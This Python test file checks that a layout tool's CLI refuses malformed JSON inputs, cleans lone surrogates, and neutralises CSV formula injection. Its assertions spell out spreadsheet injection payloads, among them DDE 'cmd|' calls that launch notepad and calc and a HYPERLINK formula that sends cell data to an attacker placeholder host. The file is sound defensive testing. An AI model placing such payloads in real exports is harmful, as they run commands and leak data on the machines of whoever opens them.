"""The reproducers of issue 11 (../shared/cases/hostile, copied to tests/data/hostile): one test each.

Each is run as its README says, through the CLI, and checked for what it should do:
a refusal is one escaped line naming the file and the place, with exit 2; a file that
loads also reports, exports and saves, and the saved file reads back equal.
"""

from __future__ import annotations

import csv
import filecmp
import io
import json
from pathlib import Path

import pytest

from model.cli import run_cli
from model.io.csv_safe import FORMULA_START
from model.io.files import load_layout, save_layout

CASES = Path(__file__).resolve().parents[1] / "data" / "hostile"
SHARED = Path(__file__).resolve().parents[3] / "shared" / "cases" / "hostile"


def cli(capsys, *args) -> tuple[int, str, str]:
    code = run_cli([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def refused(capsys, case: str, *expected: str) -> str:
    path = CASES / case
    for command in ("validate", "report"):
        code, out, err = cli(capsys, command, path)
        assert code == 2 and out == "", err
        assert err.count("\n") == 1 and err[:-1].isprintable()
        assert str(path) in err and "Traceback" not in err
        for text in expected:
            assert text in err, err
    return err


def test_every_shared_case_has_a_copy_here():
    # CI puts shared/ beside the clone; where it is, the copies must be the same files.
    if SHARED.is_dir():
        for case in SHARED.iterdir():
            assert (CASES / case.name).is_file(), f"copy {case.name} into tests/data/hostile"
            assert filecmp.cmp(case, CASES / case.name, shallow=False), f"{case.name} changed in shared/"
    assert len(list(CASES.glob("*.json"))) >= 7


def test_01_a_tray_point_of_1e400_is_refused_with_its_path(capsys):
    refused(capsys, "01-tray-point-1e400.json", "trays[0].points[0][0]", "finite number")


def test_05_a_setting_of_1e400_is_refused_so_nothing_saves_as_infinity(capsys):
    refused(capsys, "05-setting-1e400-save-unreadable.json", "settings.bend_multiplier_static", "finite number")


def test_06a_a_repeated_key_names_line_column_and_key(capsys):
    refused(capsys, "06a-duplicate-key.json", "line 5 column 2", "the key 'name' appears twice")


@pytest.mark.parametrize(
    "case, field",
    [("04-surrogate-site-name.json", "name"), ("04b-surrogate-cable-label.json", "label")],
)
def test_04_a_lone_surrogate_is_cleaned_on_import(tmp_path, capsys, case, field):
    path = CASES / case
    site = load_layout(path)
    text = site.name if field == "name" else site.cables[0].label
    assert "\ufffd" in text and text.encode("utf-8")  # a lone surrogate became U+FFFD
    for args in (["report", path], ["report", path, "--format", "csv"], ["report", path, "--format", "json"]):
        code, out, err = cli(capsys, *args)
        assert code == 0 and err == ""
    assert "\ufffd" in out  # the JSON report names the layout and every label
    out_path = tmp_path / "schedule.csv"
    assert cli(capsys, "export", path, "--what", "schedule", "--out", out_path)[0] == 0
    saved = tmp_path / "saved.json"
    save_layout(site, saved)
    assert load_layout(saved) == site


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a plain (negative) number may start so


@pytest.mark.parametrize("what", ["schedule", "bom", "netbox-devices", "netbox-cables"])
def test_10_formula_cells_are_neutralised_in_every_csv(tmp_path, capsys, what):
    out_path = tmp_path / f"{what}.csv"
    code, _, _ = cli(capsys, "export", CASES / "10-csv-formula-names.json", "--what", what, "--out", out_path)
    assert code == 0
    rows = _cells(out_path.read_bytes().decode("utf-8"))
    _assert_no_formula(rows)
    if what in ("schedule", "netbox-cables"):
        labels = {row[0] if what == "schedule" else row[8] for row in rows[1:]}
        assert "'=cmd|' /C notepad'!A0" in labels and "'\t=1+1" in labels and "'\r=1+1" in labels
    if what == "netbox-devices":
        cells = {cell for row in rows[1:] for cell in row}
        assert '\'=HYPERLINK("http://attacker.invalid/?x="&A1,"click")' in cells  # the site
        assert "'-2+3+cmd|' /C calc'!A0" in cells  # a row


def test_10_the_csv_report_is_neutralised_too(capsys):
    code, out, _ = cli(capsys, "report", CASES / "10-csv-formula-names.json", "--format", "csv")
    assert code == 0
    rows = _cells(out)
    assert len(rows) == 161
    _assert_no_formula(rows)


def test_10b_a_carriage_return_in_a_label_stays_in_one_row(tmp_path, capsys):
    out_path = tmp_path / "s.csv"
    code, _, _ = cli(capsys, "export", CASES / "10b-csv-cr-in-label.json", "--what", "schedule", "--out", out_path)
    assert code == 0
    with out_path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1
    label = json.loads((CASES / "10b-csv-cr-in-label.json").read_text(encoding="utf-8"))["cables"][0]["label"]
    assert rows[0]["label"] == "'" + label  # intact, behind the quote that neutralises its leading CR
